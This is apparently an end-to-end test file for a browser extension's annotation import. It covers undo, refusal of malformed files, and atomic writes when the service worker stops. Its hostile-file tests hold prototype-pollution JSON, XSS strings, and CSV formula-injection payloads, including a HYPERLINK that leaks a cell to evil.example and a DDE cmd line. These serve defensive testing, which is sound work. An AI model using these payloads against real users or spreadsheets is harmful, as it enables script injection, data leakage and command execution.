// Import safety end to end: undo the last import from the popup (the database back exactly as it
// was), hostile files refused fast with nothing written, payload notes inert in the popup, CSV and
// JSON, and the service worker stopped while a 5,000-item import is being written: all or nothing.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addDays, shanghaiDayOf } from '../../lib/annotation/shanghai-time';
import { readDb, type DbSnapshot } from './db';
import { extensionPage, launchDuban, noticeSeed, openNotice, screenshot, serveSeeds, type Duban } from './harness';
import { editorSaved, itemInEditor, openEditor, reveal, rowLabel, rowStatus } from './editor';
import { cdp } from './shadow';

/** The seed notice's key (lib/notice/notice-key.ts); its 文号 is DOC_NO. */
const KEY = '拱政办发〔2024〕2号@www.gongshu.gov.cn';
const DOC_NO = '拱政办发〔2024〕2号';
const today = shanghaiDayOf(Date.now());
const iso = (ms: number) => new Date(ms).toISOString();
const dir = mkdtempSync(join(tmpdir(), 'duban-import-safety-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function popup(d: Duban): Promise<Page> {
  const page = await extensionPage(d.context, d.extensionId, 'popup.html');
  await page.setViewportSize({ width: 460, height: 900 });
  page.on('dialog', (dialog) => {
    throw new Error(`unexpected dialog: ${dialog.message()}`);
  });
  await page.locator('main[aria-busy="false"]').waitFor();
  return page;
}

/** Chooses `file` through the popup's 导入文件… button. */
async function chooseFile(page: Page, file: string) {
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.locator('[data-action="choose-import"]').click()]);
  await chooser.setFiles(file);
}

function writeFile(name: string, content: string | Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

/** An official-looking notice of the file format, with `items` annotated items. */
/** A notice as a version-1 file has it: keyed by its 文号 alone (duban keys it 文号@www.gongshu.gov.cn today). */
function fileNotice(n: number, items: { itemNo: number; [k: string]: unknown }[]) {
  const docNo = `拱政办发〔2025〕${n}号`;
  return { key: docNo, docNo, url: `https://www.gongshu.gov.cn/art/2025/1/${n}/art_${9000 + n}.html`, title: `测试通知 ${n}`, items };
}

/** An item as version 1 files number it (`itemNo`). */
function item(itemNo: number, fields: Record<string, unknown> = {}, at = Date.now() - 60_000) {
  return { itemNo, fingerprint: `fp${itemNo}`, status: 'in_progress', note: '', createdAt: iso(at), updatedAt: iso(at), history: [], ...fields };
}

const duban = (notices: unknown[]) => JSON.stringify({ format: 'duban-annotations', version: 1, exportedAt: iso(Date.now()), notices });

const tables = (db: DbSnapshot) => ({ notices: db.notices, annotations: db.annotations, history: db.history, historyPacks: db.historyPacks });

describe('undo is a stack', () => {
  it('imports A then B, undoes B then A from the popup, and the database is exactly as before A', async () => {
    const d = await launchDuban();
    try {
      const page = await popup(d);
      const before = tables(await readDb(d.context, d.extensionId));
      const a = writeFile('stack-a.json', duban([fileNotice(41, [item(1, { note: '甲的文件' }), item(2)])]));
      const b = writeFile('stack-b.json', duban([fileNotice(41, [item(1, { note: '乙改了甲', status: 'done' }, Date.now())]), fileNotice(42, [item(5)])]));
      for (const file of [a, b]) {
        await chooseFile(page, file);
        await page.locator('[data-testid="import-preview"]').waitFor();
        await page.locator('[data-action="apply-import"]').click();
        await page.locator('[data-testid="import-done"]').waitFor();
      }
      const afterA = async () => tables(await readDb(d.context, d.extensionId));
      const undo = page.locator('[data-testid="undo-import"]');
      await expect.poll(async () => undo.textContent()).toContain('stack-b.json');
      await page.locator('[data-action="undo-import"]').click();
      await page.locator('[data-testid="undo-done"]').waitFor();
      // B undone: A's import is still there, and can be undone next.
      const onlyA = await afterA();
      expect(onlyA.annotations.map((x) => x.note)).toEqual(expect.arrayContaining(['甲的文件']));
      expect(onlyA.notices.map((n) => n.key)).not.toContain('拱政办发〔2025〕42号@www.gongshu.gov.cn');
      await expect.poll(async () => undo.textContent()).toContain('stack-a.json');
      await page.locator('[data-action="undo-import"]').click();
      await expect.poll(async () => tables(await readDb(d.context, d.extensionId))).toEqual(before);
    } finally {
      await d.close();
    }
  });
});

describe('undo the last import', () => {
  let d: Duban;
  let before: DbSnapshot;
  beforeAll(async () => {
    d = await launchDuban();
    await serveSeeds(d.context);
  });
  afterAll(() => d?.close());

  it('imports a file, then "撤销上次导入" puts the database back exactly and the popup and overlay show it', async () => {
    // This browser's own work, typed on the notice.
    const notice = await openNotice(d.context, noticeSeed().url);
    const editor = await openEditor(notice, 1);
    await notice.keyboard.type('本地：已约谈牵头单位');
    await notice.keyboard.press('Tab');
    await editorSaved(editor);
    await notice.close();
    before = await readDb(d.context, d.extensionId);
    expect(before.annotations).toHaveLength(1);

    // A colleague's file: item 1 changed on their side too (a conflict), items 3 and 4 new, and a new notice.
    const at = Date.now();
    const file = writeFile(
      'colleague.json',
      duban([
        {
          key: KEY,
          docNo: DOC_NO,
          url: noticeSeed().url,
          title: '关于印发区2024年政府工作报告重点工作责任分解的通知',
          items: [
            item(1, { note: '同事：方案已报区政府', noteUpdatedAt: iso(at), status: 'done' }, at),
            item(3, { note: '同事：街道尚未回复', followUp: addDays(today, -2), status: 'behind' }, at),
            item(4, { progress: 30 }, at),
          ],
        },
        fileNotice(31, [item(1, { note: '新通知的事项' }), item(2)]),
      ]),
    );
    const page = await popup(d);
    expect(await page.locator('[data-testid="undo-import"]').count()).toBe(0);
    await chooseFile(page, file);
    await page.locator('[data-testid="import-preview"] [data-kind="new"]').waitFor();
    expect(await page.locator('[data-testid="import-preview"] [data-kind="conflict"]').textContent()).toBe('1');
    await page.locator('[data-action="apply-import"]').click();
    await page.locator('[data-testid="import-done"]').waitFor();

    const undo = page.locator('[data-testid="undo-import"]');
    await undo.waitFor();
    expect(await undo.textContent()).toContain('上次导入：colleague.json，');
    expect(await undo.textContent()).toMatch(/\d{4}-\d{2}-\d{2} \d{2}:\d{2}（新增 4，更新 0，冲突 1）/);
    await page.locator('section.notice[data-notice-key="拱政办发〔2025〕31号@www.gongshu.gov.cn"]').waitFor();
    const imported = await readDb(d.context, d.extensionId);
    expect(imported.annotations).toHaveLength(5);
    // The clash kept: the local note as it was, the file's text as its conflict copy.
    const clashed = imported.annotations.find((a) => a.itemKey === '1' && a.noticeKey === KEY) as { note: string; noteCopies?: { kind: string }[] };
    expect(clashed.note).not.toContain('<<<');
    expect(clashed.noteCopies?.map((c) => c.kind)).toEqual(['conflict']);
    await screenshot(page, 'import-safety-undo-offered', { fullPage: true });

    await undo.locator('[data-action="undo-import"]').click();
    const done = page.locator('[data-testid="undo-done"]');
    await done.waitFor();
    expect(await done.textContent()).toContain('已撤销导入「colleague.json」');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('data-testid'))).toBe('undo-done');
    await expect.poll(() => page.locator('[data-testid="undo-import"]').count()).toBe(0);
    expect(await page.locator('section.notice[data-notice-key="拱政办发〔2025〕31号@www.gongshu.gov.cn"]').count()).toBe(0);
    await screenshot(page, 'import-safety-undone', { fullPage: true });

    // Exactly the database before: every row of every table, ids included.
    expect(tables(await readDb(d.context, d.extensionId))).toEqual(tables(before));

    // A fresh popup shows the earlier state and nothing to undo.
    const again = await popup(d);
    const card = again.locator(`section.notice[data-notice-key="${KEY}"]`);
    await card.waitFor();
    expect(await card.textContent()).toContain('已批注 1 / 156 项');
    expect(await again.locator('[data-testid="undo-import"]').count()).toBe(0);
    expect(await again.locator('section.notice').count()).toBe(1);
    // …and so does the overlay.
    const fresh = await openNotice(d.context, noticeSeed().url);
    await reveal(fresh, 1);
    expect(await rowLabel(fresh, 1, 'note')).toBe('本地：已约谈牵头单位');
    expect((await itemInEditor(fresh, 1)).note).toBe('本地：已约谈牵头单位');
    await reveal(fresh, 3);
    expect(await rowLabel(fresh, 3, 'note')).toBe('');
    expect(await rowStatus(fresh, 3)).toBe('not_started');
    expect(await itemInEditor(fresh, 3)).toMatchObject({ note: '', status: 'not_started', followup: '' });
    await fresh.close();
  });

  it('refuses to undo, saying why, once an imported item was edited after the import', async () => {
    const page = await popup(d);
    await chooseFile(page, join(dir, 'colleague.json'));
    await page.locator('[data-action="apply-import"]').click();
    await page.locator('[data-testid="import-done"]').waitFor();
    // Item 3 came from the file; the user adds to its note on the notice.
    const notice = await openNotice(d.context, noticeSeed().url);
    const editor = await openEditor(notice, 3);
    expect(await editor.locator('#ed-note').inputValue()).toBe('同事：街道尚未回复');
    await notice.keyboard.press('End');
    await notice.keyboard.type('；本人已电话催办');
    await notice.keyboard.press('Tab');
    await editorSaved(editor);
    await notice.close();
    const edited = await readDb(d.context, d.extensionId);

    const fresh = await popup(d);
    await fresh.locator('[data-action="undo-import"]').click();
    const error = fresh.locator('[data-testid="undo-error"]');
    await error.waitFor();
    const text = (await error.textContent())!;
    expect(text).toContain(`无法撤销：导入之后又修改过 1 项（${DOC_NO} 第 3 项）`);
    expect(text).toContain('撤销会覆盖这些修改，因此未作任何更改。');
    await screenshot(fresh, 'import-safety-undo-refused', { fullPage: true });
    expect(tables(await readDb(d.context, d.extensionId))).toEqual(tables(edited));
    // The offer stays (the import is still the last one), but it keeps refusing.
    expect(await fresh.locator('[data-testid="undo-import"]').count()).toBe(1);
  });
});

describe('hostile files in the popup', () => {
  let d: Duban;
  beforeAll(async () => {
    d = await launchDuban();
    await serveSeeds(d.context);
  });
  afterAll(() => d?.close());

  it('refuses empty, binary, non-UTF-8, 50 MB, non-object and deeply nested files, and duban\'s CSV, writing nothing', async () => {
    const page = await popup(d);
    const valid = duban([fileNotice(41, [item(1, { note: '正常' })])]);
    const cases: { name: string; content: string | Buffer; says: string }[] = [
      { name: 'empty.json', content: '', says: '文件是空的' },
      { name: 'image.json', content: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0xff]), says: '不是 UTF-8 文本文件' },
      { name: 'gbk.json', content: Buffer.concat([Buffer.from('{"note":"'), Buffer.from([0xb6, 0xbd, 0xb0, 0xec]), Buffer.from('"}')]), says: '不是 UTF-8 文本文件' },
      { name: 'utf16.json', content: Buffer.from('\uFEFF' + valid, 'utf16le'), says: '不是 UTF-8 文本文件' },
      { name: 'huge.json', content: Buffer.alloc(50 * 1024 * 1024, 0x20), says: '文件过大（50.0 MB），上限 20.0 MB' },
      { name: 'array.json', content: '[{"format":"duban-annotations"}]', says: '不是督办导出的文件' },
      { name: 'number.json', content: '42', says: '不是督办导出的文件' },
      { name: 'broken.json', content: valid.slice(0, 80), says: '不是有效的 JSON 文件：' },
      // duban's own CSV (the export for other tools), chosen by mistake.
      { name: 'duban.csv', content: '\uFEFF文号 Doc No.,序号 No.,牵头领导 Lead official\r\n拱政办发〔2024〕2号,1,黄飞\r\n', says: '这是督办导出的 CSV 表格' },
      {
        name: 'deep.json',
        content: valid.replace('"note":"正常"', `"note":${'['.repeat(10_000)}${']'.repeat(10_000)}`),
        says: '字段 note（备注）：应为文字，实为列表',
      },
    ];
    const before = await readDb(d.context, d.extensionId);
    for (const c of cases) {
      const file = writeFile(c.name, c.content);
      await page.reload();
      await page.locator('main[aria-busy="false"]').waitFor();
      const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.locator('[data-action="choose-import"]').click()]);
      await chooser.setFiles(file);
      const error = page.locator('[data-testid="import-error"]');
      await error.waitFor();
      await expect.poll(() => error.textContent()).toContain(c.says);
      expect(await error.textContent()).toContain('文件未导入，未作任何更改');
      if (c.name === 'deep.json') await screenshot(page, 'import-safety-deep-refused', { fullPage: true });
    }
    expect(tables(await readDb(d.context, d.extensionId))).toEqual(tables(before));
  });

  it('drops __proto__, constructor and prototype keys: nothing polluted in the popup or the background', async () => {
    const page = await popup(d);
    const f = JSON.parse(duban([fileNotice(42, [item(1, { note: '原型' })])]));
    f.notices[0].items[0].KEY = 0;
    f.notices[0].KEY = 0;
    f.KEY = 0;
    const poison = '"__proto__":{"polluted":"yes","status":"done"},"constructor":{"prototype":{"polluted":"yes"}},"prototype":{"polluted":"yes"}';
    const text = JSON.stringify(f).replaceAll('"KEY":0', poison);
    await chooseFile(page, writeFile('proto.json', text));
    await page.locator('[data-action="apply-import"]').click();
    await page.locator('[data-testid="import-done"]').waitFor();
    const worker = d.context.serviceWorkers().find((w) => w.url().includes(d.extensionId))!;
    const polluted = () => [String(({} as { polluted?: string }).polluted), Object.prototype.hasOwnProperty('polluted')];
    expect(await page.evaluate(polluted)).toEqual(['undefined', false]);
    expect(await worker.evaluate(polluted)).toEqual(['undefined', false]);
    const db = await readDb(d.context, d.extensionId);
    const stored = db.annotations.find((a) => a.noticeKey === '拱政办发〔2025〕42号@www.gongshu.gov.cn')!;
    expect(stored).toMatchObject({ note: '原型', status: 'in_progress' });
    const keys = JSON.stringify(tables(db), (k, v) => {
      if (['__proto__', 'constructor', 'prototype'].includes(k)) throw new Error(`stored key ${k}`);
      return v;
    });
    expect(keys).not.toContain('polluted');
  });

  it('keeps HTML, javascript: links and formulas in notes inert: text in the popup, neutralised in CSV, intact in JSON', async () => {
    const payloads = [
      '<img src=x onerror="document.title=\'pwned\'">',
      '<script>document.title="pwned"</script>',
      'javascript:document.title="pwned"',
      '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
      "+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(1+1)',
      // Formulas behind a blank, a line break or a zero-width character, and in full-width forms.
      ' =1+1',
      '\n=1+1',
      '\u200b=1+1',
      '\ufeff@SUM(1)',
      '＝1+1',
      '＋1',
      '\t=1',
    ];
    const page = await popup(d);
    await page.evaluate(() => (document.title = 'duban'));
    const items = payloads.map((note, i) => item(i + 1, { note, followUp: addDays(today, -1), status: 'behind' }));
    await chooseFile(page, writeFile('payloads.json', duban([fileNotice(43, items)])));
    await page.locator('[data-action="apply-import"]').click();
    await page.locator('[data-testid="import-done"]').waitFor();
    const card = page.locator('section.notice[data-notice-key="拱政办发〔2025〕43号@www.gongshu.gov.cn"]');
    await card.waitFor();
    // The popup shows the first five, then the rest on 再显示.
    await card.locator('[data-action="show-all"]').click();
    const notes = card.locator('details.urgent .note');
    await expect.poll(() => notes.count()).toBe(payloads.length);
    // The popup shows each note's first line with text.
    expect((await notes.allTextContents()).sort()).toEqual(payloads.map((p) => p.trimStart().split('\n')[0]).sort());
    expect(await page.locator('main img, main script, main a[href^="javascript:"]').count()).toBe(0);
    for (const href of await card.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href')))) {
      expect(href).toMatch(/^https:\/\/www\.gongshu\.gov\.cn\/art\//);
    }
    expect(await page.title()).toBe('duban');
    await screenshot(page, 'import-safety-payloads', { fullPage: true });

    await card.locator('details.export summary').click();
    const row = card.locator('.export-row').first();
    const [csv] = await Promise.all([page.waitForEvent('download'), row.locator('[data-export="csv"]').click()]);
    const csvText = readFileSync((await csv.path())!, 'utf8');
    const formulas = payloads.filter((p) => /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/.test(p));
    expect(formulas).toHaveLength(11);
    for (const p of formulas) expect(csvText).toContain(`'${p.replaceAll('"', '""')}`);
    // …and none as a bare cell a spreadsheet would run.
    for (const p of formulas) for (const bare of [`,${p}`, `,"${p.replaceAll('"', '""')}`]) expect(csvText).not.toContain(bare);
    const [json] = await Promise.all([page.waitForEvent('download'), row.locator('[data-export="json"]').click()]);
    const exported = JSON.parse(readFileSync((await json.path())!, 'utf8'));
    expect(exported.notices[0].items.map((i: { note: string }) => i.note)).toEqual(payloads);
  });
});

// ------------------------------------------------------------------ service worker stopped

/** Stops every service worker of the profile, as Chromium does to an idle extension. */
async function stopServiceWorker(page: Page) {
  const s = await cdp(page);
  await s.send('ServiceWorker.enable');
  await s.send('ServiceWorker.stopAllWorkers');
}

/** duban's running service worker (woken by a message from the popup if it was stopped). */
async function worker(d: Duban, page: Page): Promise<Worker> {
  await page.evaluate(() => chrome.runtime.sendMessage({ id: 1, type: 'getLastImport', timestamp: Date.now(), data: {} }));
  await expect.poll(() => d.context.serviceWorkers().length).toBeGreaterThan(0);
  return d.context.serviceWorkers().at(-1)!;
}

/**
 * Watches, from inside the service worker, for the import's write transaction (the only read-write
 * one over the restore points): when it first reads or writes, and whether it completed. Observes
 * only. (Dexie binds IDBDatabase#transaction when it opens, so the hook is on objectStore.)
 */
function watchImportTransaction(w: Worker) {
  return w.evaluate(() => {
    type Mark = { started: number; completed?: number; aborted?: number };
    const g = self as unknown as { __tx?: Mark };
    const proto = IDBTransaction.prototype as unknown as { __watched?: boolean; objectStore: (name: string) => IDBObjectStore };
    if (proto.__watched) return;
    proto.__watched = true;
    const seen = new WeakSet<IDBTransaction>();
    const original = proto.objectStore;
    proto.objectStore = function (this: IDBTransaction, name: string) {
      if (!seen.has(this) && this.mode === 'readwrite' && Array.from(this.objectStoreNames).includes('restorePoints')) {
        seen.add(this);
        const mark: Mark = (g.__tx = { started: Date.now() });
        this.addEventListener('complete', () => (mark.completed = Date.now()));
        this.addEventListener('abort', () => (mark.aborted = Date.now()));
      }
      return original.call(this, name);
    };
  });
}

/** 5,000 annotated items over five new notices, each with a note and two history entries. */
function bigFile(): string {
  const at = Date.parse('2026-01-05T02:00:00Z');
  const notices = Array.from({ length: 5 }, (_, n) =>
    fileNotice(
      60 + n,
      Array.from({ length: 1000 }, (_, i) =>
        item(
          i + 1,
          {
            status: ['in_progress', 'done', 'behind', 'paused'][i % 4],
            note: `第${i + 1}项：已召开专题会议研究推进方案，牵头单位已报送阶段性进展，下一步按序时进度推进。`.repeat(2),
            noteUpdatedAt: iso(at + i),
            text: `重点工作事项 ${i + 1}：推进城市更新与民生实事项目建设`,
            units: ['区发改局', '各街道'],
            section: 1,
            history: [
              { at: iso(at), field: 'created' },
              { at: iso(at + i), field: 'note', from: 0, to: 60 },
            ],
          },
          at + i,
        ),
      ),
    ),
  );
  return duban(notices);
}

describe('service worker stopped while an import is being written', () => {
  let d: Duban;
  beforeAll(async () => {
    d = await launchDuban();
  });
  afterAll(() => d?.close());

  it('leaves the whole 5,000-item import or none of it, and the popup offers a retry', async () => {
    const file = writeFile('big.json', bigFile());
    const page = await popup(d);
    const before = tables(await readDb(d.context, d.extensionId));
    const outcomes: string[] = [];
    // Stop at the transaction's start, a little into it, later into it, and just after it committed.
    for (const delay of [0, 60, 250, 'commit'] as const) {
      await page.reload();
      await page.locator('main[aria-busy="false"]').waitFor();
      await chooseFile(page, file);
      await page.locator('[data-testid="import-preview"] [data-kind="new"]').waitFor({ timeout: 60_000 });
      expect(await page.locator('[data-kind="new"]').textContent()).toBe('5000');
      const w = await worker(d, page);
      await w.evaluate(() => delete (self as { __tx?: unknown }).__tx);
      await watchImportTransaction(w);

      await page.locator('[data-action="apply-import"]').click();
      let tx: { started: number; completed?: number } | undefined;
      for (let i = 0; i < 2000 && !tx; i++) tx = await w.evaluate(() => (self as { __tx?: { started: number; completed?: number } }).__tx);
      expect(tx, 'the import transaction started').toBeDefined();
      if (delay === 'commit') {
        await expect.poll(() => w.evaluate(() => (self as { __tx?: { completed?: number } }).__tx?.completed), { timeout: 60_000, interval: 5 }).toBeDefined();
      } else if (delay) {
        await new Promise((r) => setTimeout(r, delay));
      }
      const mark = await w.evaluate(() => (self as { __tx?: { started: number; completed?: number } }).__tx!);
      const inFlight = mark.completed === undefined;
      await stopServiceWorker(page);

      // The popup settles on a message: done (it landed) or interrupted with a retry.
      const done = page.locator('[data-testid="import-done"]');
      const interrupted = page.locator('[data-testid="import-interrupted"]');
      await expect.poll(async () => (await done.count()) + (await interrupted.count()), { timeout: 60_000 }).toBe(1);
      const db = tables(await readDb(d.context, d.extensionId));
      const imported = db.annotations.length - before.annotations.length;
      expect([0, 5000]).toContain(imported);
      if (imported === 0) {
        expect(db).toEqual(before);
        expect(await interrupted.textContent()).toContain('导入被中断（督办的后台服务停止了）：文件未导入，未作任何更改。可以重试。');
        expect(await page.locator('[data-action="apply-import"]').textContent()).toContain('重试导入');
        if (outcomes.length === 0) await screenshot(page, 'import-safety-interrupted', { fullPage: true });
        // Retry: the whole file lands.
        await page.locator('[data-action="apply-import"]').click();
        await done.waitFor({ timeout: 60_000 });
      } else {
        expect(await done.count()).toBe(1);
        expect(db.notices).toHaveLength(before.notices.length + 5);
        expect(db.historyPacks).toHaveLength(before.historyPacks.length + 5);
      }
      const label = delay === 'commit' ? `at commit (the transaction took ${mark.completed! - mark.started} ms)` : `${delay} ms`;
      outcomes.push(`${label}: stopped ${inFlight ? 'in flight' : 'after commit'}, ${imported ? 'all' : 'none'}`);
      if (delay === 'commit') expect(imported).toBe(5000);
      const whole = tables(await readDb(d.context, d.extensionId));
      expect(whole.annotations).toHaveLength(before.annotations.length + 5000);
      // Undo the 5,000 items: back to the start for the next round.
      await page.locator('[data-action="undo-import"]').click();
      await page.locator('[data-testid="undo-done"]').waitFor({ timeout: 60_000 });
      expect(tables(await readDb(d.context, d.extensionId))).toEqual(before);
    }
    console.info(`service worker stopped mid-import: ${outcomes.join('; ')}`);
    // At least one stop really hit the transaction before it committed, and it lost all of it.
    expect(outcomes.some((o) => o.includes('in flight, none'))).toBe(true);
  }, 300_000); // four 5,000-item imports, each allowed a minute on a busy machine
});
